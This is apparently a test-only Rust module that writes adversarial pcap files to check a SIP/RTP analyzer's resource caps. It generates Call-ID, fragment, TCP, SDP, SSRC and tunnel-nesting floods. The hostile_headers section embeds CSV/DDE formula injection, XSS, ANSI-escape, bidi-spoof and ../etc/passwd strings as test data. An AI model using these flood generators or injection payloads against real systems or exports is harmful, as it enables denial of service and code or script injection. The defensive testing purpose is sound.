//! Adversarial captures (test-only): traffic built to exhaust an analyzer's memory or time. Each generator streams
//! its frames into a pcap at `path` and returns what it wrote, so that a test can check the analysis against the
//! counts it knows by construction. See THREAT_MODEL.md for which cap each one aims at.
//!
//! - [`call_id_flood`]: small OPTIONS/REGISTER requests, every one with its own Call-ID.
//! - [`fragment_flood`]: IPv4/IPv6 fragments that never complete (the pending-datagram, memory and per-datagram
//!   fragment caps), with overlapping fragments.
//! - [`tcp_chaos`]: more TCP directions than tracked, out-of-order, overlapping and out-of-window segments, and a
//!   message that outgrows the per-direction buffer.
//! - [`tcp_memory`]: many directions each holding part of a large message (the total TCP buffer cap).
//! - [`huge_header`]: one SIP header of many megabytes over TCP, and UDP messages over the header caps.
//! - [`sdp_flood`]: SDP bodies with thousands of `m=` lines, and more media endpoints than can be bound.
//! - [`ssrc_flood`]: RTP with a fresh SSRC in every packet (signalled and unsignalled) and RTCP naming hundreds of
//!   thousands of sources.
//! - [`calls_with_media`]: tens of thousands of calls, each with its own stream.
//! - [`nested_tunnels`]: GRE in GRE in IP-in-IP … and 802.1Q stacks far deeper than any real network.
//! - [`hostile_headers`]: calls whose Call-IDs and headers carry CSV formulas, HTML, ANSI escapes, bidi overrides
//!   and `../` (for the export checks).

use std::fs::File;
use std::io::{self, BufWriter};
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
use std::path::Path;

use crate::pcapw::{Frame, PcapWriter, eth_tcp4, eth_udp4, ethernet, ipv4, ipv4_with, udp};

/// What a generator wrote.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Generated {
    pub frames: u64,
    pub bytes: u64,
}

const BASE_TS: i64 = 1_700_000_000_000_000_000;
const ATTACKER: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 66);
const TARGET: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 10);

/// Streams Ethernet frames into a pcap, one microsecond apart (dense: nothing times out on capture time).
struct Out {
    w: PcapWriter<BufWriter<File>>,
    g: Generated,
}

impl Out {
    fn create(path: &Path) -> io::Result<Out> {
        let f = BufWriter::with_capacity(1 << 20, File::create(path)?);
        Ok(Out {
            w: PcapWriter::new(f, 1, false, false)?,
            g: Generated::default(),
        })
    }

    fn put(&mut self, data: Vec<u8>) -> io::Result<()> {
        let ts = BASE_TS + self.g.frames as i64 * 1_000;
        self.g.frames += 1;
        self.g.bytes += data.len() as u64;
        self.w.write(&Frame::new(ts, data))
    }

    fn done(self) -> io::Result<Generated> {
        self.w.finish()?;
        Ok(self.g)
    }
}

fn options(i: u64, method: &str, call_id: &str) -> Vec<u8> {
    format!(
        "{method} sip:{i}@203.0.113.10 SIP/2.0\r\nVia: SIP/2.0/UDP 198.51.100.66:5060;branch=z9hG4bK{i:x}\r\n\
         From: <sip:scan@198.51.100.66>;tag={i:x}\r\nTo: <sip:{i}@203.0.113.10>\r\nCall-ID: {call_id}\r\n\
         CSeq: 1 {method}\r\nMax-Forwards: 70\r\nContent-Length: 0\r\n\r\n"
    )
    .into_bytes()
}

/// `n` requests (OPTIONS and REGISTER alternating), each with a distinct Call-ID, from one source to one target.
pub fn call_id_flood(path: &Path, n: u64) -> io::Result<Generated> {
    let mut out = Out::create(path)?;
    for i in 0..n {
        let method = if i % 2 == 0 { "OPTIONS" } else { "REGISTER" };
        let msg = options(i, method, &format!("flood-{i:08}"));
        out.put(eth_udp4(ATTACKER, 5060, TARGET, 5060, &msg))?;
    }
    out.done()
}

/// Fragments that never complete, in four waves:
/// 1. `tiny` first fragments (offset 0, more-fragments set) with distinct IDs — the pending-datagram cap;
/// 2. `big` datagrams each sent but for their last fragment (45 × 1440 bytes) — the fragment-memory cap;
/// 3. one datagram cut into 9000 eight-byte fragments, never ended — the fragments-per-datagram cap;
/// 4. overlapping fragments with conflicting bytes, and IPv6 fragments that never complete.
pub fn fragment_flood(path: &Path, tiny: u64, big: u64) -> io::Result<Generated> {
    let mut out = Out::create(path)?;
    let payload = [0x55u8; 64];
    for i in 0..tiny {
        let src = Ipv4Addr::new(10, 1, (i >> 16) as u8, (i >> 8) as u8);
        let ip = ipv4_with(src, TARGET, 17, i as u16, 0x2000, &payload);
        out.put(ethernet(0x0800, &ip))?;
    }
    let chunk = vec![0xAAu8; 1440];
    for d in 0..big {
        let src = Ipv4Addr::new(10, 2, (d >> 8) as u8, d as u8);
        for k in 0..45u16 {
            let field = 0x2000 | (k * 1440 / 8);
            let ip = ipv4_with(src, TARGET, 17, d as u16, field, &chunk);
            out.put(ethernet(0x0800, &ip))?;
        }
    }
    for k in 0..9000u16 {
        let ip = ipv4_with(ATTACKER, TARGET, 17, 0xBEEF, 0x2000 | k, &[k as u8; 8]);
        out.put(ethernet(0x0800, &ip))?;
    }
    for k in 0..200u16 {
        // The same 64 bytes at offset 0 with different contents, and a shifted overlap.
        let ip = ipv4_with(
            ATTACKER,
            TARGET,
            17,
            0x0F00 + (k % 10),
            0x2000 | (k % 3),
            &[k as u8; 64],
        );
        out.put(ethernet(0x0800, &ip))?;
    }
    let v6src = Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 0x66);
    let v6dst = Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 0x10);
    for i in 0..2000u32 {
        // Fragment header: next header UDP, offset 0, M=1, identification i.
        let mut frag = vec![17, 0, 0, 1];
        frag.extend_from_slice(&i.to_be_bytes());
        frag.extend_from_slice(&[0x77; 48]);
        out.put(ethernet(0x86DD, &ipv6(v6src, v6dst, 44, &frag)))?;
    }
    out.done()
}

fn ipv6(src: Ipv6Addr, dst: Ipv6Addr, next: u8, payload: &[u8]) -> Vec<u8> {
    let mut h = vec![0x60, 0, 0, 0];
    h.extend_from_slice(&(payload.len() as u16).to_be_bytes());
    h.extend_from_slice(&[next, 64]);
    h.extend_from_slice(&src.octets());
    h.extend_from_slice(&dst.octets());
    h.extend_from_slice(payload);
    h
}

const ACK: u8 = 0x10;
const PSH_ACK: u8 = 0x18;

/// TCP abuse in one capture:
/// - `flows` directions (distinct source ports and addresses), each opened with half a SIP request that never
///   completes — more than the tracked-direction cap when `flows` is over 65 536;
/// - one direction whose first segment is missing, followed by 1000 segments held out of order (over the
///   256-segment cap);
/// - overlapping retransmissions with different bytes, segments far outside any window (seq + 2³¹) and going
///   backwards;
/// - a message announcing a 4 MB body streamed in full (over the 1 MiB per-direction buffer).
pub fn tcp_chaos(path: &Path, flows: u64) -> io::Result<Generated> {
    let mut out = Out::create(path)?;
    let half =
        b"INVITE sip:100@203.0.113.10 SIP/2.0\r\nVia: SIP/2.0/TCP 10.3.0.1:5060\r\nCall-ID: half";
    for i in 0..flows {
        let src = Ipv4Addr::new(10, 3, (i >> 16) as u8, (i >> 8) as u8);
        let port = 1024 + (i & 0xff) as u16;
        out.put(eth_tcp4(src, port, TARGET, 5060, 1000, 1, PSH_ACK, half))?;
    }
    // Out of order: the bytes from seq 1000 never arrive; 1000 later segments are held.
    let seg = options(1, "OPTIONS", "ooo");
    for k in 0..1000u32 {
        let seq = 1000 + 500 + k * seg.len() as u32;
        out.put(eth_tcp4(
            ATTACKER, 40000, TARGET, 5060, seq, 1, PSH_ACK, &seg,
        ))?;
    }
    // Overlaps and windows: a stream of whole messages, each sent twice with the second copy shifted and altered.
    let mut seq = 7_000u32;
    for k in 0..500u32 {
        let msg = options(u64::from(k), "OPTIONS", &format!("overlap-{k}"));
        out.put(eth_tcp4(
            ATTACKER, 40001, TARGET, 5060, seq, 1, PSH_ACK, &msg,
        ))?;
        let mut altered = msg.clone();
        for b in altered.iter_mut().take(40) {
            *b = b'X';
        }
        out.put(eth_tcp4(
            ATTACKER,
            40001,
            TARGET,
            5060,
            seq.wrapping_sub(20),
            1,
            PSH_ACK,
            &altered,
        ))?;
        out.put(eth_tcp4(
            ATTACKER,
            40001,
            TARGET,
            5060,
            seq.wrapping_add(1 << 31),
            1,
            PSH_ACK,
            &msg,
        ))?;
        out.put(eth_tcp4(
            ATTACKER,
            40001,
            TARGET,
            5060,
            seq.wrapping_sub(1 << 30),
            1,
            ACK,
            &[],
        ))?;
        seq = seq.wrapping_add(msg.len() as u32);
    }
    // A 4 MB body announced and sent: over the per-direction buffer.
    let head = b"MESSAGE sip:100@203.0.113.10 SIP/2.0\r\nVia: SIP/2.0/TCP 198.51.100.66:5060\r\nCall-ID: big-body\r\n\
                 CSeq: 1 MESSAGE\r\nContent-Type: text/plain\r\nContent-Length: 4000000\r\n\r\n";
    let mut seq = 1u32;
    out.put(eth_tcp4(
        ATTACKER, 40002, TARGET, 5060, seq, 1, PSH_ACK, head,
    ))?;
    seq = seq.wrapping_add(head.len() as u32);
    let body = vec![b'b'; 40_000];
    for _ in 0..100 {
        out.put(eth_tcp4(
            ATTACKER, 40002, TARGET, 5060, seq, 1, PSH_ACK, &body,
        ))?;
        seq = seq.wrapping_add(body.len() as u32);
    }
    out.done()
}

/// `flows` TCP connections, each sending the headers of a request announcing a 1 000 000-byte body and then
/// `bytes` of it, never finishing: every direction holds `bytes`, so their sum outgrows a total buffer cap.
pub fn tcp_memory(path: &Path, flows: u64, bytes: usize) -> io::Result<Generated> {
    let mut out = Out::create(path)?;
    let head = b"MESSAGE sip:100@203.0.113.10 SIP/2.0\r\nVia: SIP/2.0/TCP 198.51.100.66:5060\r\nCall-ID: hold\r\n\
                 CSeq: 1 MESSAGE\r\nContent-Type: text/plain\r\nContent-Length: 1000000\r\n\r\n";
    let chunk = vec![b'm'; 50_000];
    for f in 0..flows {
        let port = 20_000 + f as u16;
        let mut seq = 1u32;
        out.put(eth_tcp4(
            ATTACKER, port, TARGET, 5060, seq, 1, PSH_ACK, head,
        ))?;
        seq = seq.wrapping_add(head.len() as u32);
        let mut sent = 0;
        while sent < bytes {
            let n = chunk.len().min(bytes - sent);
            out.put(eth_tcp4(
                ATTACKER,
                port,
                TARGET,
                5060,
                seq,
                1,
                PSH_ACK,
                &chunk[..n],
            ))?;
            seq = seq.wrapping_add(n as u32);
            sent += n;
        }
    }
    out.done()
}

/// One SIP INVITE over TCP whose `X-Flood` header is `header_bytes` long (sent in 60 000-byte segments, then a
/// normal request on the same connection), and over UDP a request with 400 headers and one with a 60 000-byte
/// value (over the 256-header and 16 KiB-value caps).
pub fn huge_header(path: &Path, header_bytes: usize) -> io::Result<Generated> {
    let mut out = Out::create(path)?;
    let mut stream =
        b"INVITE sip:100@203.0.113.10 SIP/2.0\r\nVia: SIP/2.0/TCP 198.51.100.66:5060\r\nX-Flood: "
            .to_vec();
    stream.extend(std::iter::repeat_n(b'A', header_bytes));
    stream.extend_from_slice(b"\r\nCall-ID: huge\r\nCSeq: 1 INVITE\r\nContent-Length: 0\r\n\r\n");
    stream.extend_from_slice(&options(2, "OPTIONS", "after-huge"));
    let mut seq = 1u32;
    for seg in stream.chunks(60_000) {
        out.put(eth_tcp4(
            ATTACKER, 41000, TARGET, 5060, seq, 1, PSH_ACK, seg,
        ))?;
        seq = seq.wrapping_add(seg.len() as u32);
    }
    let mut many =
        b"OPTIONS sip:100@203.0.113.10 SIP/2.0\r\nCall-ID: many-headers\r\nCSeq: 1 OPTIONS\r\n"
            .to_vec();
    for k in 0..400 {
        many.extend_from_slice(format!("X-H{k}: v\r\n").as_bytes());
    }
    many.extend_from_slice(b"Content-Length: 0\r\n\r\n");
    out.put(eth_udp4(ATTACKER, 5060, TARGET, 5060, &many))?;
    let mut long = b"OPTIONS sip:100@203.0.113.10 SIP/2.0\r\nCall-ID: long-value\r\nCSeq: 1 OPTIONS\r\nX-Long: ".to_vec();
    long.extend(std::iter::repeat_n(b'L', 60_000));
    long.extend_from_slice(b"\r\nContent-Length: 0\r\n\r\n");
    out.put(eth_udp4(ATTACKER, 5060, TARGET, 5060, &long))?;
    out.done()
}

fn invite_with_sdp(call_id: &str, sdp: &str) -> Vec<u8> {
    format!(
        "INVITE sip:100@203.0.113.10 SIP/2.0\r\nVia: SIP/2.0/TCP 198.51.100.66:5060;branch=z9hG4bK-{call_id}\r\n\
         From: <sip:a@198.51.100.66>;tag=1\r\nTo: <sip:100@203.0.113.10>\r\nCall-ID: {call_id}\r\n\
         CSeq: 1 INVITE\r\nContent-Type: application/sdp\r\nContent-Length: {}\r\n\r\n{sdp}",
        sdp.len()
    )
    .into_bytes()
}

/// `big` INVITEs over TCP whose SDP has `lines` `m=` sections each, then `bind` INVITEs over UDP with 64 media
/// sections each on distinct addresses (`bind` × 64 endpoints: over the 400 000 bindings cap past 6250).
pub fn sdp_flood(path: &Path, big: u64, lines: u64, bind: u64) -> io::Result<Generated> {
    let mut out = Out::create(path)?;
    let mut seq = 1u32;
    for b in 0..big {
        let mut sdp = String::from(
            "v=0\r\no=- 1 1 IN IP4 198.51.100.66\r\ns=-\r\nc=IN IP4 198.51.100.66\r\nt=0 0\r\n",
        );
        for l in 0..lines {
            sdp.push_str(&format!(
                "m=audio {} RTP/AVP 0 8\r\na=rtpmap:0 PCMU/8000\r\n",
                10_000 + l % 50_000
            ));
        }
        let msg = invite_with_sdp(&format!("sdp-big-{b}"), &sdp);
        for seg in msg.chunks(60_000) {
            out.put(eth_tcp4(
                ATTACKER, 42000, TARGET, 5060, seq, 1, PSH_ACK, seg,
            ))?;
            seq = seq.wrapping_add(seg.len() as u32);
        }
    }
    for b in 0..bind {
        let mut sdp = String::from("v=0\r\no=- 1 1 IN IP4 10.9.0.1\r\ns=-\r\nt=0 0\r\n");
        let addr = Ipv4Addr::new(10, 9, (b >> 8) as u8, b as u8);
        for l in 0..64 {
            sdp.push_str(&format!(
                "m=audio {} RTP/AVP 0\r\nc=IN IP4 {addr}\r\n",
                20_000 + l * 2
            ));
        }
        let msg = invite_with_sdp(&format!("sdp-bind-{b}"), &sdp);
        out.put(eth_udp4(ATTACKER, 5060, TARGET, 5060, &msg))?;
    }
    out.done()
}

fn rtp(seq: u16, ts: u32, ssrc: u32) -> Vec<u8> {
    let mut p = vec![0x80, 0];
    p.extend_from_slice(&seq.to_be_bytes());
    p.extend_from_slice(&ts.to_be_bytes());
    p.extend_from_slice(&ssrc.to_be_bytes());
    p.extend_from_slice(&[0xFF; 160]);
    p
}

/// A call whose SDP binds 203.0.113.10:40000, then `ssrcs` RTP packets to it each with a new SSRC (every one a
/// new stream: over the 100 000-stream cap past that), the same number to an unsignalled port (every one a new
/// candidate: over the 100 000-candidate cap), and RTCP receiver reports naming `ssrcs` sources in blocks of 31.
pub fn ssrc_flood(path: &Path, ssrcs: u32) -> io::Result<Generated> {
    let mut out = Out::create(path)?;
    let sdp = "v=0\r\no=- 1 1 IN IP4 203.0.113.10\r\ns=-\r\nc=IN IP4 203.0.113.10\r\nt=0 0\r\n\
               m=audio 40000 RTP/AVP 0\r\na=rtpmap:0 PCMU/8000\r\n";
    let invite = invite_with_sdp("ssrc-flood", sdp);
    out.put(eth_udp4(ATTACKER, 5060, TARGET, 5060, &invite))?;
    for s in 0..ssrcs {
        let p = rtp(s as u16, s.wrapping_mul(160), 0x1000_0000 + s);
        out.put(eth_udp4(ATTACKER, 30000, TARGET, 40000, &p))?;
    }
    for s in 0..ssrcs {
        let p = rtp(s as u16, s.wrapping_mul(160), 0x2000_0000 + s);
        out.put(eth_udp4(ATTACKER, 30002, TARGET, 50000, &p))?;
    }
    let mut s = 0u32;
    while s < ssrcs {
        let blocks = 31.min(ssrcs - s);
        let mut rr = vec![0x80 | blocks as u8, 201];
        rr.extend_from_slice(&((1 + 6 * blocks) as u16).to_be_bytes());
        rr.extend_from_slice(&0x3000_0000u32.to_be_bytes());
        for b in 0..blocks {
            rr.extend_from_slice(&(0x4000_0000 + s + b).to_be_bytes());
            rr.extend_from_slice(&[0; 20]);
        }
        out.put(eth_udp4(ATTACKER, 30001, TARGET, 40001, &rr))?;
        s += blocks;
    }
    out.done()
}

/// `n` calls, each an INVITE whose SDP binds its own address and port, followed by `packets` RTP packets to it:
/// `n` calls with one stream each (the stage that attaches streams to calls must stay linear in both).
pub fn calls_with_media(path: &Path, n: u32, packets: u16) -> io::Result<Generated> {
    let mut out = Out::create(path)?;
    for c in 0..n {
        let addr = Ipv4Addr::new(10, 20 + (c >> 16) as u8, (c >> 8) as u8, c as u8);
        let sdp = format!(
            "v=0\r\no=- 1 1 IN IP4 {addr}\r\ns=-\r\nc=IN IP4 {addr}\r\nt=0 0\r\nm=audio 16000 RTP/AVP 0\r\n\
             a=rtpmap:0 PCMU/8000\r\n"
        );
        let invite = invite_with_sdp(&format!("media-{c}"), &sdp);
        out.put(eth_udp4(ATTACKER, 5060, TARGET, 5060, &invite))?;
        for k in 0..packets {
            out.put(eth_udp4(
                TARGET,
                17000,
                addr,
                16000,
                &rtp(k, u32::from(k) * 160, c),
            ))?;
        }
    }
    out.done()
}

/// `frames` copies of each of: a SIP OPTIONS inside `depth` alternating GRE and IP-in-IP layers, the same inside
/// `depth` alternating IPv6-in-IPv4 and IPv4-in-IPv6 layers, and an Ethernet frame with `depth` stacked 802.1Q
/// tags — far past the decoder's nesting bounds — plus one of each at a depth the decoder accepts (2 layers,
/// 2 tags), which must be analysed.
pub fn nested_tunnels(path: &Path, depth: usize, frames: u64) -> io::Result<Generated> {
    let mut out = Out::create(path)?;
    let sip = options(7, "OPTIONS", "deep-tunnel");
    let inner_udp = udp(IpAddr::V4(ATTACKER), 5060, IpAddr::V4(TARGET), 5060, &sip);
    let gre_ipip = |depth: usize| {
        let mut pkt = ipv4(ATTACKER, TARGET, 17, &inner_udp);
        for level in 0..depth {
            pkt = if level % 2 == 0 {
                let mut gre = vec![0, 0, 0x08, 0x00];
                gre.extend_from_slice(&pkt);
                ipv4(ATTACKER, TARGET, 47, &gre)
            } else {
                ipv4(ATTACKER, TARGET, 4, &pkt)
            };
        }
        ethernet(0x0800, &pkt)
    };
    let six_in_four = |depth: usize| {
        let v6src = Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 0x66);
        let v6dst = Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 0x10);
        let mut pkt = ipv6(
            v6src,
            v6dst,
            17,
            &udp(IpAddr::V6(v6src), 5060, IpAddr::V6(v6dst), 5060, &sip),
        );
        let mut v6 = true;
        for _ in 0..depth {
            // IPv6 in IPv4 (protocol 41), IPv4 in IPv6 (next header 4), alternately.
            pkt = if v6 {
                ipv4(ATTACKER, TARGET, 41, &pkt)
            } else {
                ipv6(v6src, v6dst, 4, &pkt)
            };
            v6 = !v6;
        }
        ethernet(if v6 { 0x86DD } else { 0x0800 }, &pkt)
    };
    let vlans = |depth: usize| {
        let mut inner = Vec::new();
        for k in 0..depth {
            let next: u16 = if k + 1 == depth { 0x0800 } else { 0x8100 };
            inner.extend_from_slice(&((k as u16 + 1) & 0x0fff).to_be_bytes());
            inner.extend_from_slice(&next.to_be_bytes());
        }
        inner.extend_from_slice(&ipv4(ATTACKER, TARGET, 17, &inner_udp));
        ethernet(0x8100, &inner)
    };
    out.put(gre_ipip(2))?;
    out.put(six_in_four(2))?;
    out.put(vlans(2))?;
    let (a, b, c) = (gre_ipip(depth), six_in_four(depth), vlans(depth));
    for _ in 0..frames {
        out.put(a.clone())?;
        out.put(b.clone())?;
        out.put(c.clone())?;
    }
    out.done()
}

/// The hostile strings [`hostile_headers`] puts in Call-IDs, names and user agents.
pub const HOSTILE_CALL_IDS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")",
    "../../../../etc/passwd",
    "<script>alert(1)</script>@evil",
    "\u{1b}[2J\u{1b}]0;pwned\u{7}ansi",
    "bidi-\u{202e}gnp.exe",
    "+cmd|' /C calc'!A0",
];

/// One INVITE/200/ACK/BYE call per hostile Call-ID, the From display name and User-Agent also hostile.
pub fn hostile_headers(path: &Path) -> io::Result<Generated> {
    let mut out = Out::create(path)?;
    let agents = [
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "<img src=x onerror=alert(1)>",
        "\u{1b}[31mred\u{1b}[0m",
    ];
    for (i, cid) in HOSTILE_CALL_IDS.iter().enumerate() {
        let ua = agents[i % agents.len()];
        let from = format!("\"-2+3*cmd {cid}\" <sip:alice@198.51.100.66>;tag=a{i}");
        let to = "<sip:bob@203.0.113.10>".to_string();
        let mk = |start: &str, cseq: &str, to_tag: bool| {
            let to = if to_tag {
                format!("{to};tag=b{i}")
            } else {
                to.clone()
            };
            format!(
                "{start}\r\nVia: SIP/2.0/UDP 198.51.100.66:5060;branch=z9hG4bK-h{i}-{cseq}\r\nFrom: {from}\r\nTo: {to}\r\n\
                 Call-ID: {cid}\r\nCSeq: {cseq}\r\nUser-Agent: {ua}\r\nContact: <sip:alice@198.51.100.66>\r\n\
                 Content-Length: 0\r\n\r\n"
            )
            .into_bytes()
        };
        let ruri = "sip:bob@203.0.113.10";
        out.put(eth_udp4(
            ATTACKER,
            5060,
            TARGET,
            5060,
            &mk(&format!("INVITE {ruri} SIP/2.0"), "1 INVITE", false),
        ))?;
        out.put(eth_udp4(
            TARGET,
            5060,
            ATTACKER,
            5060,
            &mk("SIP/2.0 200 OK", "1 INVITE", true),
        ))?;
        out.put(eth_udp4(
            ATTACKER,
            5060,
            TARGET,
            5060,
            &mk(&format!("ACK {ruri} SIP/2.0"), "1 ACK", true),
        ))?;
        out.put(eth_udp4(
            ATTACKER,
            5060,
            TARGET,
            5060,
            &mk(&format!("BYE {ruri} SIP/2.0"), "2 BYE", true),
        ))?;
        out.put(eth_udp4(
            TARGET,
            5060,
            ATTACKER,
            5060,
            &mk("SIP/2.0 200 OK", "2 BYE", true),
        ))?;
    }
    out.done()
}
